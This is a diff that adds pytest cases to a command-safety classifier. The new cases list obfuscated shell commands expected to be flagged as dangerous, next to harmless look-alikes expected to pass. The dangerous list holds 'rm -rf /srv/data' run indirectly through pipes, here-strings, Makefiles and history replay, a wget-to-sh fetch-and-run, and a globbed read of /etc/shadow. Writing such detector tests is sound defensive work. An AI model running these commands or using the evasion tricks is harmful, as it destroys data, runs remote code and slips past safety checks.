@@ -204,3 +204,36 @@ def test_the_worst_texts_neither_crash_nor_count_as_safe(command: str) -> None:
     found = assess(command)
     assert found.level is not Level.SAFE
     assert not found.read_only
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "echo 'echo rm -rf /srv/data' | sh | sh",
+        "cat <(echo 'rm -rf /srv/data') | sh",
+        "sh /dev/fd/4 4<<< 'rm -rf /srv/data'",
+        "ruby -e 'puts \"rm -rf /srv/data\"' | bash",
+        'f() { wget -qO- "$1"; }; f http://h/x | sh',
+        "printf 'all:\\n\\trm -rf /srv/data\\n' > Makefile; make",
+        "gdb --args rm -rf /srv/data",
+        "history -s 'rm -rf /srv/data'; fc -s",
+        "cat /etc/sha*ow",
+        'vagrant ssh -c "$CMD"',
+    ],
+)
+def test_what_goes_through_another_program_is_seen(command: str) -> None:
+    assert assess(command).level is Level.DANGER
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "cat /etc/*",
+        "grep -l x /etc/s*",
+        "echo 'echo hi' | sh | wc -l",
+        "cat <(echo a) | wc -l",
+        "f() { date; }; f | tr a b",
+    ],
+)
+def test_the_same_ways_with_harmless_text_raise_no_alarm(command: str) -> None:
+    assert assess(command).level is Level.SAFE
